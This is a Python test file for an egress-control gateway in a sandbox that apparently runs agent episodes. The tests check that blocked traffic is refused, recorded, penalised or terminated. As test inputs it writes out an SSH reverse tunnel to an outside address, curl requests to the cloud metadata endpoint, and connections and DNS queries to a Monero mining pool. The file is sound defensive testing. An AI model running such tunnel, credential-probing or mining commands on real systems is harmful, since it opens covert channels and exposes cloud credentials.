"""Traffic that ignores the proxy, or asks it for what the policy refuses, fails and is recorded."""

from __future__ import annotations

import os

import pytest

from corral.egress.gateway import launcher_binary
from corral.store.sqlite import EventStore
from tests.egress.conftest import egress_events, wait_for_event

pytestmark = pytest.mark.unprivileged


async def test_raw_connect_to_an_address_is_refused_and_names_the_process(make_sandbox, store):
    sb = await make_sandbox()
    cmd = "python3 -c \"import socket; socket.create_connection(('203.0.113.7', 8443))\""
    r = await sb.exec(cmd)
    assert r.exit_code != 0 and "ConnectionRefusedError" in r.stderr
    [ev] = egress_events(sb, "egress.raw_connect")
    assert ev.action == "blocked" and ev.dst.ip == "203.0.113.7" and ev.dst.port == 8443
    assert ev.argv[:2] == ["python3", "-c"] and ev.pid and ev.step == r.step
    assert ev.severity == "low" and ev.category == "policy"
    assert ev.episode_id == sb.episode_id and ev.sandbox_id == sb.id
    stored = store.query(source="egress", episode_id=sb.episode_id)
    assert any(e.rule == "egress.raw_connect" for e in stored)


async def test_raw_connect_to_a_stratum_port_is_mining_and_ends_the_episode(make_sandbox):
    """Judged by what it did: the same category and response as `./miner -o 203.0.113.7:3333`."""
    sb = await make_sandbox()  # dev: mining -> terminate
    cmd = "python3 -c \"import socket; socket.create_connection(('203.0.113.7', 3333))\""
    await sb.exec(cmd)
    ev = await wait_for_event(sb, "mining.pool_destination")
    assert ev.category == "mining" and ev.severity == "critical" and ev.action == "terminated"
    assert ev.dst.port == 3333 and ev.argv[:2] == ["python3", "-c"]
    assert {"mining.pool_destination", "egress.raw_connect"} <= {
        f["rule"] for f in ev.evidence["findings"]
    }
    assert any(e.rule == "respond.penalty" and e.evidence["for_rule"] == "mining.pool_destination"
               for e in sb.events)  # fmt: skip
    await wait_for_event(sb, "respond.terminate", source="sandbox")
    assert sb.terminated


async def test_ssh_reverse_tunnel_to_an_address_is_refused(make_sandbox):
    sb = await make_sandbox()
    r = await sb.exec("ssh -o ConnectTimeout=2 -o BatchMode=yes -R 2222:localhost:22 u@203.0.113.7")
    assert r.exit_code == 255
    # judged by what the process is: a connection for `ssh -R`, a tunnel (dev: tunnel -> block)
    [ev] = egress_events(sb, "tunnel.ssh_forward_on_wire")
    assert ev.dst.ip == "203.0.113.7" and ev.dst.port == 22 and ev.action == "blocked"
    assert ev.argv[0] == "ssh" and "-R" in ev.argv and ev.category == "tunnel"
    assert "egress.raw_connect" in [f["rule"] for f in ev.evidence["findings"]]


async def test_metadata_address_through_the_proxy_is_refused(make_sandbox):
    sb = await make_sandbox()
    r = await sb.exec("curl -sS -f http://169.254.169.254/latest/meta-data/")
    assert r.exit_code == 22 and "403" in r.stderr
    [ev] = egress_events(sb, "metadata.cloud_endpoint")
    assert ev.category == "metadata" and ev.action == "blocked" and ev.severity == "critical"
    assert ev.dst.host == "169.254.169.254" and ev.argv[0] == "curl"


async def test_metadata_address_directly_is_refused(make_sandbox):
    sb = await make_sandbox()
    r = await sb.exec("curl -sS --noproxy '*' --max-time 3 http://169.254.169.254/")
    assert r.exit_code != 0
    [ev] = egress_events(sb, "metadata.cloud_endpoint")
    assert ev.category == "metadata" and ev.dst.ip == "169.254.169.254" and ev.argv[0] == "curl"
    assert "egress.raw_connect" in [f["rule"] for f in ev.evidence["findings"]]


async def test_udp_datagram_is_refused_and_recorded(make_sandbox):
    sb = await make_sandbox()
    r = await sb.exec(
        'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
        "s.sendto(b'x', ('198.51.100.9', 9999))\""
    )
    assert r.exit_code != 0
    [ev] = egress_events(sb, "egress.raw_udp")
    assert ev.dst.ip == "198.51.100.9" and ev.dst.proto == "udp" and ev.argv[0] == "python3"


async def test_dns_query_straight_to_a_resolver_is_refused_with_the_name(make_sandbox):
    sb = await make_sandbox()
    q = ("\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
         "\\x04pool\\x0asupportxmr\\x03com\\x00\\x00\\x01\\x00\\x01")  # fmt: skip
    r = await sb.exec(
        f'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
        f"s.sendto(b'{q}', ('192.0.2.53', 53))\""
    )
    assert r.exit_code != 0
    ev = await wait_for_event(sb, "mining.pool_destination")
    assert ev.dst.host == "pool.supportxmr.com" and ev.category == "mining"
    assert ev.severity == "critical" and ev.dst.proto == "dns"
    assert "egress.dns_blocked" in [f["rule"] for f in ev.evidence["findings"]]


@pytest.mark.skipif(
    os.geteuid() != 0 and launcher_binary() is None,
    reason="an ordinary user answers DNS through the C launcher (make install)",
)
async def test_getent_of_a_pool_name_is_refused_with_the_name(make_sandbox):
    sb = await make_sandbox()  # dev: mining -> terminate, so the lookup's process is killed
    r = await sb.exec("getent hosts pool.supportxmr.com")
    assert r.exit_code != 0
    evs = egress_events(sb, "mining.pool_destination")
    assert evs and all(e.dst.host == "pool.supportxmr.com" for e in evs)
    assert evs[0].category == "mining" and evs[0].argv == ["getent", "hosts", "pool.supportxmr.com"]
    assert evs[0].action == "terminated"


async def test_getent_unprivileged_or_not_leaves_a_blocked_dns_event(make_sandbox):
    sb = await make_sandbox()
    r = await sb.exec("getent hosts blocked.example.org")
    assert r.exit_code == 2
    evs = egress_events(sb, "egress.dns_blocked")
    assert evs and evs[0].action == "blocked" and evs[0].argv[0] == "getent"
    assert evs[0].dst.host == "blocked.example.org"


async def test_events_cli_lists_egress_events(make_sandbox, store: EventStore):
    from typer.testing import CliRunner

    from corral.cli.main import app

    sb = await make_sandbox()
    await sb.exec("curl -sS http://169.254.169.254/")
    out = CliRunner().invoke(app, ["events", "--source", "egress", "--json"])
    assert out.exit_code == 0, out.output
    assert "metadata.cloud_endpoint" in out.output and sb.episode_id in out.output


@pytest.mark.skipif(
    os.geteuid() != 0 and launcher_binary() is None,
    reason="an ordinary user answers DNS through the C launcher (make install)",
)
async def test_dns_answers_allowed_names_only(make_sandbox):
    from tests.egress.conftest import network

    sb = await make_sandbox(network("web.test", "127.0.0.1"))
    r = await sb.exec("getent ahosts web.test | head -1")
    assert r.stdout.startswith("127.0.0.1"), r.output
    ev = egress_events(sb, "egress.dns_query")[0]
    assert ev.action == "allowed" and ev.dst.host == "web.test" and ev.argv[0] == "getent"
    r = await sb.exec("getent hosts other.test")
    assert r.exit_code == 2
    assert egress_events(sb, "egress.dns_blocked")[0].dst.host == "other.test"
    await sb.egress.update(network("web.test", "127.0.0.1", dns="none"))
    r = await sb.exec("getent hosts web.test")
    assert r.exit_code == 2
